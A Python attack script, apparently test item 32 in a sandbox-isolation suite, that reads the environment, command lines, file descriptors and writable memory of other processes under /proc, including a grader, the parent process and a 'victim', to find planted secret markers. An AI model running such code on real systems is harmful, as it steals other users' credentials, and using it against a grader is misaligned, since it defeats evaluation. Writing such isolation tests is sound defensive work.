# attack: 32
# title: the grader's, the warm parent's and a stranger's /proc is read
# success: a secret of theirs stands in the output
# naive: leak
import os

for pid in (1, os.getppid(), "@GRADER@", "@PARENT@", "@VICTIM@", *range(2, 40)):
    for name in ("environ", "cmdline", "maps", "mem", "cwd", "exe", "fd", "root"):
        path = f"/proc/{pid}/{name}"
        try:
            if name in ("cwd", "exe"):
                print(path, os.readlink(path))
            elif name in ("fd", "root"):
                print(path, os.listdir(path))
            elif name == "mem":
                with open(path, "rb", 0) as memory, open(f"/proc/{pid}/maps") as table:
                    for line in table:
                        span, rights, *_ = line.split()
                        start, end = (int(part, 16) for part in span.split("-"))
                        if "rw" in rights and end - start < 8 << 20:
                            memory.seek(start)
                            data = memory.read(end - start)
                            mark = b"MARK" + b"ER_"
                            if mark in data:
                                at = data.index(mark)
                                print(path, data[at : at + 60])
            else:
                with open(path, "rb") as file:
                    print(path, file.read()[:4000])
        except OSError:
            pass
